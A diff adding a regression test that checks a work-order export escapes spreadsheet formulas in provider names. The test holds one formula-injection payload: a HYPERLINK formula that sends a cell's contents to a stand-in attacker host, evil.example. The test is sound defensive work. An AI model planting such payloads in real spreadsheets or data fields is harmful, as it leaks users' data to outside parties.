@@ -108,3 +108,23 @@ def test_every_order_tally_field_has_exactly_one_named_aggregate():
     from workorders.stats import OrderTally, tally_columns
 
     assert sorted(column.name for column in tally_columns()) == sorted(field.name for field in fields(OrderTally))
+
+
+HOSTILE_PROVIDER = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+
+
+def test_work_order_exports_carry_formulas_as_text(app, services, orders):
+    """Finding 2: a provider named like a formula reached the export as a live formula."""
+    with services.db.session_scope() as session:
+        session.get(Provider, orders["p1"]).name = HOSTILE_PROVIDER
+    client = TestClient(app)
+    login(client, make_user(services, "supervisor"))
+    params = {"from": "2026-11-20", "to": "2026-11-20", "table": "by_provider"}
+    text = client.get("/api/stats/workorders/export", params=params).content.decode("utf-8-sig")
+    import csv
+
+    assert "'" + HOSTILE_PROVIDER in [row[0] for row in csv.reader(io.StringIO(text))]
+    xlsx = client.get("/api/stats/workorders/export", params=params | {"format": "xlsx"})
+    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(xlsx.content)).active.iter_rows()]
+    hostile = next(cell for cell in cells if cell.value == HOSTILE_PROVIDER)
+    assert hostile.data_type == "s" and hostile.quotePrefix
